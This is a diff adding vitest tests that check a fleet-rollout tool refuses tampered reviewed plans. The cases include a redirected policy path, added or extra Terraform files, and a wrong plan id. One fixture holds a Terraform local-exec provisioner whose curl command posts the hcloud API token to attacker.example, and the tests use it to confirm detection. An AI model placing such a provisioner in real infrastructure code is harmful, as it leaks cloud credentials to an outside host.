@@ -1,7 +1,7 @@
 // What the rollout starts from: the reviewed plan directory, secrets, the inventory and its pinned
 // known_hosts, and the journal it leaves behind.
 
-import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
@@ -34,6 +34,59 @@ describe('a reviewed plan directory', () => {
     const file = join(work, 'p', 'plan.json');
     writeFileSync(file, readFileSync(file, 'utf8').replace('"batchSize": 2', '"batchSize": 3'));
     await expect(loadReviewedPlan(join(work, 'p'))).rejects.toThrow(/changed after it was planned/);
+  });
+
+  it('is refused when the policy path that relative secret files are read beside was pointed elsewhere', async () => {
+    await writeFixturePlan(join(work, 'p'), { hosts: ADDRESSES, extraFiles: () => [{ path: '/etc/upkeep/token', mode: '0600', owner: 'root:root', secret: { file: 'secrets/token' } }] });
+    const file = join(work, 'p', 'plan.json');
+    const plan = JSON.parse(readFileSync(file, 'utf8'));
+    // An attacker's directory holds secrets/token: apply would install its content on every host.
+    if ('policy' in plan) plan.policy = '/tmp/attacker/fleet.ts';
+    if (plan.metadata?.policy !== undefined) plan.metadata.policy = '/tmp/attacker/fleet.ts';
+    writeFileSync(file, JSON.stringify(plan, null, 2));
+    await expect(loadReviewedPlan(join(work, 'p'))).rejects.toThrow(/changed after it was planned/);
+  });
+
+  describe('with a terraform/ stack', () => {
+    const STACK = { 'main.tf.json': `${JSON.stringify({ resource: { hcloud_server: { web1: { name: 'web1' } } } }, null, 2)}\n` };
+    const LOCAL_EXEC = { terraform_data: { pwn: { provisioner: [{ 'local-exec': { command: 'curl -d "$TF_VAR_hcloud_token" https://attacker.example/' } }] } } };
+
+    it('is read when terraform/ holds exactly the reviewed stack', async () => {
+      const plan = await writeFixturePlan(join(work, 'p'), { hosts: ADDRESSES, terraform: STACK });
+      expect((await loadReviewedPlan(join(work, 'p'))).plan.plan_id).toBe(plan.plan_id);
+    });
+
+    it('is refused when main.tf.json gained a local-exec provisioner after review', async () => {
+      await writeFixturePlan(join(work, 'p'), { hosts: ADDRESSES, terraform: STACK });
+      const main = join(work, 'p', 'terraform', 'main.tf.json');
+      const stack = JSON.parse(readFileSync(main, 'utf8'));
+      stack.resource = { ...stack.resource, ...LOCAL_EXEC };
+      writeFileSync(main, JSON.stringify(stack, null, 2));
+      await expect(loadReviewedPlan(join(work, 'p'))).rejects.toThrow(/terraform\/main\.tf\.json differs from the reviewed plan/);
+    });
+
+    it('is refused when terraform/ holds a file the review did not cover', async () => {
+      await writeFixturePlan(join(work, 'p'), { hosts: ADDRESSES, terraform: STACK });
+      writeFileSync(join(work, 'p', 'terraform', 'extra_override.tf.json'), JSON.stringify({ resource: LOCAL_EXEC }));
+      await expect(loadReviewedPlan(join(work, 'p'))).rejects.toThrow(/terraform\/extra_override\.tf\.json is not part of the reviewed plan/);
+    });
+
+    it('is refused when a plan without a stack has a terraform/ directory', async () => {
+      await writeFixturePlan(join(work, 'p'), { hosts: ADDRESSES });
+      mkdirSync(join(work, 'p', 'terraform'));
+      writeFileSync(join(work, 'p', 'terraform', 'main.tf.json'), JSON.stringify({ resource: LOCAL_EXEC }));
+      await expect(loadReviewedPlan(join(work, 'p'))).rejects.toThrow(/the reviewed plan has no Terraform stack/);
+    });
+  });
+
+  it('is refused when --plan-id names another plan, and read with the full id or a 12-character prefix', async () => {
+    const plan = await writeFixturePlan(join(work, 'p'), { hosts: ADDRESSES });
+    expect((await loadReviewedPlan(join(work, 'p'), plan.plan_id)).plan.plan_id).toBe(plan.plan_id);
+    expect((await loadReviewedPlan(join(work, 'p'), plan.plan_id.slice(0, 12))).plan.plan_id).toBe(plan.plan_id);
+    const other = `${plan.plan_id.startsWith('0') ? '1' : '0'}${plan.plan_id.slice(1, 12)}`;
+    await expect(loadReviewedPlan(join(work, 'p'), other)).rejects.toThrow(new RegExp(`holds plan ${plan.plan_id.slice(0, 12)}, not the approved plan ${other}: refusing`));
+    await expect(loadReviewedPlan(join(work, 'p'), plan.plan_id.slice(0, 11))).rejects.toThrow(/--plan-id takes the approved plan id: 12 to 64 lowercase hex characters/);
+    await expect(loadReviewedPlan(join(work, 'p'), '')).rejects.toThrow(PlanDirError);
   });
 
   it('gives each host its reviewed file contents, and refuses content that differs from the plan', async () => {
